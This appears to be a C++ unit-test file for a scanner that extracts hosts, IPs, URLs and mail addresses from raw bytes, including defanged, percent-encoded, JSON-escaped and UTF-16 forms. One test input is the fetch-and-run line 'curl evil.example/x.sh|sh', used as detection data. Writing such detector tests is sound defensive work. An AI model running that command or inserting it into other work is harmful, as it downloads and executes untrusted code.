// Addresses found in bytes, in every form that they take.
#include "agent/match/indicators/content_scanner.h"

#include <gmock/gmock.h>

#include "agent/match/indicators/address_text.h"

namespace konseki::testing {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::Not;

class Collected : public CandidateSink {
 public:
  bool take(const Candidate& candidate) override {
    constexpr const char* kKinds[] = {"host", "ip", "url", "mail"};
    std::string text(kKinds[static_cast<int>(candidate.kind)]);
    text +=
        " " + (candidate.address ? network_text(*candidate.address) : std::string(candidate.text));
    if (candidate.port != 0) text += " port " + std::to_string(candidate.port);
    all.push_back(text);
    ranges.push_back(candidate.range);
    return false;
  }
  std::vector<std::string> all;
  std::vector<ByteRange> ranges;
};

std::vector<std::string> found(std::string_view text) {
  Collected sink;
  ContentScanner({true, true, true, true}).scan(text, 0, sink);
  return sink.all;
}

std::string utf16(std::string_view text, bool big = false) {
  std::string out;
  for (const char c : text) {
    if (big) out.push_back('\0');
    out.push_back(c);
    if (!big) out.push_back('\0');
  }
  return out;
}

TEST(ContentScanner, PlainHostsEndWhereNamesEnd) {
  EXPECT_THAT(found("see evil.example now"), ElementsAre("host evil.example"));
  EXPECT_THAT(found("notevil.example"), ElementsAre("host notevil.example"));
  EXPECT_THAT(found("Sub.EVIL.example."), ElementsAre("host sub.evil.example"));
  EXPECT_THAT(found("\"evil.example\","), ElementsAre("host evil.example"));
  EXPECT_THAT(found("evil.example:8443/"), Contains("host evil.example port 8443"));
  EXPECT_THAT(found("詳細はevil.exampleを参照"), Contains("host evil.example"));
  EXPECT_THAT(found("version 1.2 and 10.5, a.1"), IsEmpty());
  EXPECT_THAT(found("a. b .c . d"), IsEmpty());
  EXPECT_THAT(found(std::string(300, 'a') + ".example"), IsEmpty());
  EXPECT_THAT(found(""), IsEmpty());
  EXPECT_THAT(found("."), IsEmpty());
}

TEST(ContentScanner, AddressesOfBothVersions) {
  EXPECT_THAT(found("from 192.0.2.1:443 to"), ElementsAre("ip 192.0.2.1 port 443"));
  EXPECT_THAT(found("1.2.3.4.5"), IsEmpty());
  EXPECT_THAT(found("300.2.3.4"), IsEmpty());
  EXPECT_THAT(found("v1.2.3.4"), IsEmpty());
  EXPECT_THAT(found("at 2001:DB8::1, [2001:db8::2]:80"),
              ElementsAre("ip 2001:db8::1", "ip 2001:db8::2 port 80"));
  EXPECT_THAT(found("12:34:56 a::b std::vector"), Not(Contains("ip 12:34:56")));
  EXPECT_THAT(found("::ffff:192.0.2.9"), Contains("ip 192.0.2.9"));
}

TEST(ContentScanner, UrlsAndMailAddresses) {
  EXPECT_THAT(found("GET http://Evil.Example/A.php?x=1 HTTP/1.1"),
              Contains("url http://evil.example/A.php?x=1"));
  EXPECT_THAT(found("(https://evil.example:444/a)."), Contains("url https://evil.example:444/a"));
  EXPECT_THAT(found("curl evil.example/x.sh|sh"), Contains("url evil.example/x.sh"));
  EXPECT_THAT(found("http://u:p@evil.example/"), Contains("url http://u:p@evil.example"));
  EXPECT_THAT(found("From: <Boss@Evil.Example>"),
              ElementsAre("host evil.example", "mail boss@evil.example"));
  EXPECT_THAT(found("to=a@evil.example"), Contains("mail a@evil.example"));
}

TEST(ContentScanner, WhatKeepsThemFromBeingClickedIsUndone) {
  EXPECT_THAT(found("see evil[.]example"), Contains("host evil.example"));
  EXPECT_THAT(found("see evil(.)example"), Contains("host evil.example"));
  EXPECT_THAT(found("see sub.evil[.]example"), Contains("host sub.evil.example"));
  EXPECT_THAT(found("see evil(dot)example"), Contains("host evil.example"));
  EXPECT_THAT(found("see evil[DOT]example[dot]org"), Contains("host evil.example.org"));
  EXPECT_THAT(found("hxxps://evil[.]example/a"), Contains("url https://evil.example/a"));
  EXPECT_THAT(found("hxxp[:]//evil.example/a"), Contains("url http://evil.example/a"));
  EXPECT_THAT(found("192[.]0[.]2[.]1"), Contains("ip 192.0.2.1"));
  EXPECT_THAT(found("boss[@]evil[.]example"), Contains("mail boss@evil.example"));
}

TEST(ContentScanner, PercentEncodingIsUndone) {
  EXPECT_THAT(found("u=http%3A%2F%2Fevil.example%2Fa%3Fb%3Dc&x=1"),
              Contains("url http://evil.example/a?b=c"));
  EXPECT_THAT(found("u=http%3a%2f%2fevil%2eexample%2fa"), Contains("url http://evil.example/a"));
  EXPECT_THAT(found("u=%2F%2Fevil.example"), Not(Contains("host 2fevil.example")));
  EXPECT_THAT(found("printf %d.example"), Not(Contains("host evil.example")));
}

TEST(ContentScanner, EscapesOfJsonAreNotPartOfNames) {
  EXPECT_THAT(found(R"("a\nevil.example")"), Contains("host evil.example"));
  EXPECT_THAT(found(R"(http:\u002f\u002fevil.example)"), Contains("host evil.example"));
  EXPECT_THAT(found(R"(http:\/\/evil.example)"), Contains("host evil.example"));
}

TEST(ContentScanner, Utf16OfBothOrdersAtAnyOffset) {
  for (const bool big : {false, true}) {
    for (const std::string& front : {std::string(), std::string("x"), std::string("\xFF\xFE")}) {
      const std::string text =
          front + utf16(" http://evil.example/a 192.0.2.1 ", big) + std::string("\0\0", 2);
      EXPECT_THAT(found(text), Contains("url http://evil.example/a")) << big << front.size();
      EXPECT_THAT(found(text), Contains("ip 192.0.2.1")) << big << front.size();
    }
  }
}

TEST(ContentScanner, HostsOfOtherScripts) {
  EXPECT_THAT(found("http://例え.テスト/"), Contains("host xn--r8jz45g.xn--zckzah"));
}

TEST(ContentScanner, RangesAreBytesOfTheContent) {
  Collected sink;
  ContentScanner({false, false, true, true}).scan(std::string_view("ab evil.example"), 100, sink);
  ASSERT_EQ(sink.ranges.size(), 1U);
  EXPECT_EQ(sink.ranges[0].offset, 103U);
  EXPECT_EQ(sink.ranges[0].length, 12U);
  Collected wide;
  ContentScanner({false, false, true, true}).scan(utf16("ab evil.example "), 0, wide);
  ASSERT_EQ(wide.ranges.size(), 1U);
  EXPECT_EQ(wide.ranges[0].offset, 6U);
  EXPECT_EQ(wide.ranges[0].length, 24U);
}

TEST(ContentScanner, LongLinesOfOneKindStayBounded) {
  std::string dots;
  for (int i = 0; i < 200'000; ++i) dots += "a.";
  std::string encoded;
  for (int i = 0; i < 100'000; ++i) encoded += "%2e";
  std::string brackets;
  for (int i = 0; i < 100'000; ++i) brackets += "[.]";
  std::string colons(200'000, ':');
  for (const std::string& text : {dots, encoded, brackets, colons, "a" + encoded}) {
    found(text);
  }
}

TEST(Excerpt, IsTheLineAround) {
  const std::string text = "first\nsecond evil.example line\nthird";
  EXPECT_EQ(excerpt_of(text, {13, 12}), "second evil.example line");
  EXPECT_EQ(excerpt_of("", {5, 5}), "");
}

}  // namespace
}  // namespace konseki::testing
